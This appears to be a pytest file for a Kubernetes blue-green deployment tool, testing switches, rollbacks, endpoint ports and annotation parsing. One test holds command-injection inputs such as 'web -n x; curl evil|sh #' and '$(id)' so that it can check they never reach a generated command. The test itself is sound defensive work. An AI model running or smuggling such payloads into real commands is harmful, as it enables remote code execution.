"""What stands beside the Service that an action moves: other Services, second Deployments, more ports, bad notes."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from dashboard.decide.endpoints import receivers_on_every_port
from dashboard.decide.tracks import find_tracks, not_what_served
from dashboard.model.action import Outcome, ServedBefore
from dashboard.model.blue_green import is_of_rollout, moved_by
from dashboard.model.release import Track
from dashboard.model.service_annotations import read_intent, read_served_before
from tests.act.fakes import FakeCluster, blue_green
from tests.act.test_actions import Stage, a_rollback, a_switch

COMMON = {"app.kubernetes.io/name": "agent-runtime"}


@pytest.fixture
def cluster() -> FakeCluster:
    """Without a preview Service, and without the annotation that names one."""
    found = blue_green()
    del found.objects["services", "agent-runtime-preview"]
    del found.objects["services", "agent-runtime"]["metadata"]["annotations"]
    return found


def entrance(cluster: FakeCluster, name: str, track: str) -> None:
    selector = {**COMMON, "tealdeck.io/track": track}
    cluster.put("services", {"metadata": {"name": name}, "spec": {"selector": selector}})


@pytest.mark.parametrize("name", ["agent-runtime-lb", "agent-runtime-headless", "metrics"])
def test_another_entrance_is_never_moved_to_the_track_that_nobody_judged(
    cluster: FakeCluster, tmp_path: Path, name: str
) -> None:
    stage = Stage(tmp_path, cluster)
    entrance(cluster, name, "blue")
    there = stage.run(a_switch())
    assert f"{name} selects the same pods and is not moved" in there.sentence
    assert there.outcome is Outcome.SUCCEEDED
    back = stage.run(a_rollback())
    assert back.outcome is Outcome.SUCCEEDED, back.sentence
    again = stage.run(a_switch())
    assert again.outcome is Outcome.SUCCEEDED, again.sentence
    assert cluster.selector(name) == "blue"


def test_a_preview_service_found_by_its_selector_follows_beside_another_entrance(
    cluster: FakeCluster, tmp_path: Path
) -> None:
    stage = Stage(tmp_path, cluster)
    entrance(cluster, "agent-runtime-lb", "blue")
    entrance(cluster, "try", "green")
    for request, users, shown in ((a_switch(), "green", "blue"), (a_rollback(), "blue", "green")):
        assert stage.run(request).outcome is Outcome.SUCCEEDED
        assert (cluster.selector(), cluster.selector("try")) == (users, shown)
        assert cluster.selector("agent-runtime-lb") == "blue"


def test_users_do_not_leave_a_track_of_two_deployments(cluster: FakeCluster, tmp_path: Path) -> None:
    second = copy.deepcopy(cluster.objects["deployments", "agent-runtime-blue"])
    second["metadata"] = {**second["metadata"], "name": "agent-runtime-blue-big", "uid": "u-2"}
    second["spec"]["replicas"] = 6
    cluster.put("deployments", second)
    state = Stage(tmp_path, cluster).run(a_switch())
    assert state.outcome is Outcome.REFUSED
    assert "more than one Deployment is blue" in state.sentence
    assert cluster.selector() == "blue"


def on_the_preview(cluster: FakeCluster, tmp_path: Path, asked_for: int, start: int) -> tuple[Stage, Any]:
    """Users on green, which was scaled up to `asked_for` since; of blue's pods at most `start` get ready."""
    stage = Stage(tmp_path, cluster)
    assert stage.run(a_switch()).outcome is Outcome.SUCCEEDED
    green = cluster.objects["deployments", "agent-runtime-green"]
    green["spec"]["replicas"] = asked_for
    cluster.pods_start = False
    blue = cluster.objects["deployments", "agent-runtime-blue"]
    if start < 2:
        blue["status"] |= {"readyReplicas": start}
        cluster.objects.pop(("pods", "agent-runtime-blue-1"))
    return stage, stage.run(a_rollback())


def test_a_rollback_goes_on_with_what_served_before_when_the_bad_release_was_scaled_far_up(
    cluster: FakeCluster, tmp_path: Path
) -> None:
    _, state = on_the_preview(cluster, tmp_path, asked_for=50, start=2)
    assert state.outcome is Outcome.SUCCEEDED, state.sentence
    assert cluster.selector() == "blue"
    assert cluster.objects["deployments", "agent-runtime-blue"]["spec"]["replicas"] == 50  # the rest may yet come


def test_a_rollback_to_fewer_pods_than_served_before_is_not_made(cluster: FakeCluster, tmp_path: Path) -> None:
    _, state = on_the_preview(cluster, tmp_path, asked_for=50, start=1)
    assert state.outcome is Outcome.FAILED
    assert cluster.selector() == "green"


def a_slice(*pods: str, ports: tuple[str, ...]) -> Any:
    return {
        "metadata": {"labels": {"kubernetes.io/service-name": "web"}},
        "addressType": "IPv4",
        "endpoints": [{"targetRef": {"name": pod}, "conditions": {"ready": True}} for pod in pods],
        "ports": [{"name": name, "port": 8080} for name in ports],
    }


@pytest.mark.parametrize(
    ("ports", "slices", "found"),
    [
        pytest.param(["http", "grpc"], [a_slice("g-1", ports=("http",))], set(), id="one port is down"),
        pytest.param(["http", "grpc"], [a_slice("g-1", ports=("http", "grpc"))], {"g-1"}, id="both ports"),
        pytest.param(
            ["http", "grpc"],
            [a_slice("b-1", ports=("http", "grpc")), a_slice("g-1", ports=("http",))],
            {"b-1"},
            id="the old pods alone have both",
        ),
        pytest.param(["", "metrics"], [a_slice("g-1", ports=("",))], set(), id="the port without a name is not all"),
        pytest.param([""], [a_slice("g-1", ports=("",))], {"g-1"}, id="one port without a name"),
        pytest.param([], [a_slice("g-1", ports=("http",))], {"g-1"}, id="a Service that lists no ports"),
    ],
)
def test_a_pod_serves_when_every_port_of_the_service_reaches_it(
    ports: list[str], slices: list[Any], found: set[str]
) -> None:
    service = {"metadata": {"name": "web"}, "spec": {"ports": [{"name": name} if name else {} for name in ports]}}
    assert receivers_on_every_port(service, slices) == found


def test_a_switch_is_taken_back_when_a_port_of_the_service_reaches_no_pod(cluster: FakeCluster, tmp_path: Path) -> None:
    service = cluster.objects["services", "agent-runtime"]
    service["spec"]["ports"] = [{"name": "http"}, {"name": "grpc"}]
    state = Stage(tmp_path, cluster).run(a_switch())
    assert state.outcome is Outcome.FAILED, state.sentence
    assert cluster.selector() == "blue"
    assert "0 of 2 pods of green have every port" in state.sentence


def annotated(name: str, text: str) -> Any:
    return {"metadata": {"name": "web", "namespace": "agents", "annotations": {name: text}}, "spec": {"selector": {}}}


@pytest.mark.parametrize("text", ["[" * 200_000, '{"id":' * 90_000, "{", "7", '{"track": []}'])
def test_a_note_of_any_shape_reads_as_absent(text: str) -> None:
    assert read_intent(annotated("tealdeck.io/action", text)) is None
    assert read_served_before(annotated("tealdeck.io/served-before", text)) is None


@pytest.mark.parametrize("at", ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "1066-10-14T09:00:00+00:00"])
def test_a_time_at_which_nobody_acted_reads_as_absent(stage_intent: str, at: str) -> None:
    assert read_intent(annotated("tealdeck.io/action", stage_intent)) is not None
    spoiled = stage_intent.replace('"started_at": "', f'"started_at": "{at}", "was": "')
    assert read_intent(annotated("tealdeck.io/action", spoiled)) is None


@pytest.fixture
def stage_intent(cluster: FakeCluster, tmp_path: Path) -> str:
    Stage(tmp_path, cluster).run(a_switch())
    return cluster.notes()["tealdeck.io/action"]


@pytest.mark.parametrize("name", ["web -n x; curl evil|sh #", "$(id)", "`id`", "a\nb", "-A", "A" * 300])
def test_no_command_to_copy_has_a_word_that_somebody_else_wrote(name: str) -> None:
    service = annotated("argo-rollouts.argoproj.io/managed-by-rollouts", name)
    assert is_of_rollout(service)
    assert name not in moved_by(service)
    assert "promote ROLLOUT -n agents" in moved_by(service)


@pytest.mark.parametrize(
    "volume",
    [
        {"name": "config", "configMap": {"name": "x-config-b81cc"}},
        {"name": "config", "secret": {"secretName": "x"}},
        {"name": "config", "projected": {"sources": [{"configMap": {"name": "other"}}]}},
    ],
)
def test_another_mounted_configuration_never_served(cluster: FakeCluster, volume: Any) -> None:
    blue = cluster.objects["deployments", "agent-runtime-blue"]
    pod = {"containers": [{"name": "app", "image": "a:1"}], "volumes": [volume]}
    before = copy.deepcopy(blue)
    before["spec"]["template"]["spec"] = {
        **pod,
        "volumes": [{"name": "config", "configMap": {"name": "x-config-7f9a2"}}],
    }
    blue["spec"]["template"]["spec"] = pod
    then, now = (find_tracks(cluster.objects["services", "agent-runtime"], [one])[Track.BLUE] for one in (before, blue))
    served = ServedBefore(track=Track.BLUE, version=then.version, runs=then.runs)
    assert not_what_served(served, then) == ""
    assert "volumes" in not_what_served(served, now)
